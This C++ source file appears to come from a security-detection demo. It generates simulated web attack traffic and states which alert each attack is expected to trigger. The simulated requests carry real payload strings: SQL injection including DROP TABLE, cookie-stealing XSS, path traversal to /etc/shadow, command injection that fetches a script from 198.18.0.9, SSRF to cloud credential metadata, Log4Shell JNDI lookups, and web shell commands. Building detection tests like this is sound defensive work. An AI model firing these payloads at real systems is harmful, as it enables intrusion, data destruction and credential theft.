// Attacks on the site and its API.
#include <array>
#include <initializer_list>

#include <fmt/format.h>

#include "demo/attacks.h"

namespace tocsin {
namespace {

void send_all(Scene& scene, std::initializer_list<std::string_view> urls, int status,
              std::string_view agent = {}) {
  for (const std::string_view url : urls) {
    scene.web(scene.address(), "GET", url, status, agent);
    scene.wait(1 + scene.rng().unit() * 6);
  }
}

}  // namespace

void inject_sql(Scene& scene) {
  send_all(
      scene,
      {"/products?id=1%27%20OR%20%271%27%3D%271", "/products?id=1+UNION+ALL+SELECT+null,null--",
       "/products?id=-1%20union%20select%201,2,table_name%20from%20information_schema.tables",
       "/search?q=%27%3BDROP%20TABLE%20users--", "/products?id=1%27%20AND%20SLEEP(5)--"},
      400);
  scene.expect("SQL injection attempt", "source.ip", scene.address());
}

void inject_scripts(Scene& scene) {
  send_all(scene,
           {"/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
            "/login?next=javascript:alert(1)"},
           200);
  scene.expect("Cross-site scripting attempt", "source.ip", scene.address());
}

void traverse_paths(Scene& scene) {
  send_all(scene,
           {"/assets/../../../../etc/passwd", "/download?file=..%2f..%2f..%2fetc%2fpasswd",
            "/download?file=%252e%252e%252fetc%252fshadow"},
           404);
  scene.expect("Path traversal attempt", "source.ip", scene.address());
}

void inject_commands(Scene& scene) {
  send_all(scene,
           {"/tools/ping?host=127.0.0.1;id", "/tools/ping?host=8.8.8.8%3Bcat%20/etc/hostname",
            "/tools/ping?host=$(wget%20http://198.18.0.9/m.sh)"},
           500);
  scene.expect("Command injection attempt", "source.ip", scene.address());
}

void forge_server_requests(Scene& scene) {
  send_all(scene,
           {"/preview?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "/preview?url=http%3A%2F%2F127.0.0.1%3A6379%2F"},
           502);
  scene.expect("Server-side request forgery attempt", "source.ip", scene.address());
}

void inject_templates(Scene& scene) {
  send_all(scene, {"/hello?name=%7B%7B7*7%7D%7D", "/hello?name=%7B%7Bconfig.items()%7D%7D"}, 200);
  scene.expect("Template or expression injection attempt", "source.ip", scene.address());
}

void send_log4shell(Scene& scene) {
  send_all(scene, {"/?x=${jndi:ldap://198.18.0.9:1389/a}"}, 200);
  send_all(scene, {"/", "/login"}, 200, "${jndi:dns://198.18.0.9/x}");
  scene.expect("Log4Shell attempt (JNDI look-up)", "source.ip", scene.address());
}

void use_web_shell(Scene& scene) {
  scene.web(scene.address(), "POST", "/upload", 201);
  scene.wait(20);
  send_all(scene, {"/uploads/2026/avatar.php?c=id", "/uploads/2026/avatar.php?c=uname+-a"}, 200);
  scene.expect("A web shell answered", "source.ip", scene.address());
}

void scan_openly(Scene& scene) {
  send_all(scene, {"/", "/products?id=1", "/search?q=1", "/login"}, 200,
           "sqlmap/1.8.2#stable (https://sqlmap.org)");
  scene.expect("A vulnerability scanner names itself", "source.ip", scene.address());
}

void scan_for_pages(Scene& scene) {
  for (int i = 0; i < 70; ++i) {
    scene.web(scene.address(), "GET", fmt::format("/old{}/index.php", i), 404,
              "python-requests/2.32.3");
    scene.wait(0.4 + scene.rng().unit());
  }
  scene.expect("Many different pages that do not exist (scanner)", "source.ip", scene.address());
}

void look_for_software(Scene& scene) {
  send_all(scene, {"/wp-login.php", "/administrator/index.php", "/phpmyadmin/", "/xmlrpc.php"},
           404);
  scene.expect("Software that is not here is looked for", "source.ip", scene.address());
}

void look_for_secrets(Scene& scene) {
  send_all(scene, {"/.env", "/.git/config", "/.aws/credentials", "/backup.sql"}, 404);
  scene.expect("Files with secrets are looked for", "source.ip", scene.address());
}

void steal_secret(Scene& scene) {
  send_all(scene, {"/.git/config"}, 200);
  scene.expect("A file with secrets was served", "source.ip", scene.address());
}

void send_nonsense(Scene& scene) {
  for (int i = 0; i < 90; ++i) {
    scene.web(scene.address(), "POST", "/api/v1/cart", 400, "python-requests/2.32.3");
    scene.wait(1 + scene.rng().unit());
  }
  scene.expect("Many refused requests from one address", "source.ip", scene.address());
}

void break_server(Scene& scene) {
  for (std::uint32_t i = 0; i < 160; ++i) {
    scene.web(scene.address(1 + i % 35), "GET", "/checkout", 502);
    scene.wait(0.3);
  }
  scene.expect("Many server errors");
}

void fuzz_server(Scene& scene) {
  for (int i = 0; i < 24; ++i) {
    scene.web(scene.address(), "GET", fmt::format("/api/v1/search?q=%{:02x}%ff", 128 + i), 500);
    scene.wait(3 + scene.rng().unit() * 4);
  }
  scene.expect("One address breaks the server again and again", "source.ip", scene.address());
}

void flood_server(Scene& scene) {
  for (int i = 0; i < 1'600; ++i) {
    scene.web(scene.address(), "GET", fmt::format("/search?q={}", i), 200, "Go-http-client/2.0");
    scene.wait(0.03);
  }
  scene.expect("One address floods the site with requests", "source.ip", scene.address());
}

void ignore_limits(Scene& scene) {
  for (int i = 0; i < 80; ++i) {
    scene.web(scene.address(), "GET", "/api/v1/prices", 429, "partner-sync/1.0");
    scene.wait(2);
  }
  scene.expect("One client keeps exceeding its limit", "source.ip", scene.address());
}

void touch_trap(Scene& scene) {
  send_all(scene, {"/internal/export-all-customers.csv"}, 404);
  scene.expect("A trap was touched (honeytoken)", "source.ip", scene.address());
}

void scrape_objects(Scene& scene) {
  for (int i = 0; i < 320; ++i) {
    scene.web(scene.address(), "GET", fmt::format("/api/v1/products/{}", 1'000 + i), 200,
              "python-httpx/0.27.2");
    scene.wait(0.6 + scene.rng().unit() * 0.3);
  }
  scene.expect("One client reads very many objects (API scraping)", "source.ip", scene.address());
}

void enumerate_objects(Scene& scene) {
  for (int i = 0; i < 60; ++i) {
    scene.web(scene.address(), "GET", fmt::format("/api/v1/orders/{}", 70'000 + i), 403);
    scene.wait(1.5 + scene.rng().unit());
  }
  scene.expect("Object numbers are tried one after the other (enumeration)", "source.ip",
               scene.address());
}

void exceed_rights(Scene& scene) {
  for (int i = 0; i < 40; ++i) {
    scene.web(scene.address(), "POST", "/api/v1/admin/users", 403);
    scene.wait(2 + scene.rng().unit() * 3);
  }
  scene.expect("Many requests without the right to make them", "source.ip", scene.address());
}

void attack_that_shop_sees(Scene& scene) {
  scene.owasp("malicious_attack_tool:" + scene.address() + ",nikto", scene.address());
  scene.expect("The application reports an attack", "source.ip", scene.address());
}

}  // namespace tocsin
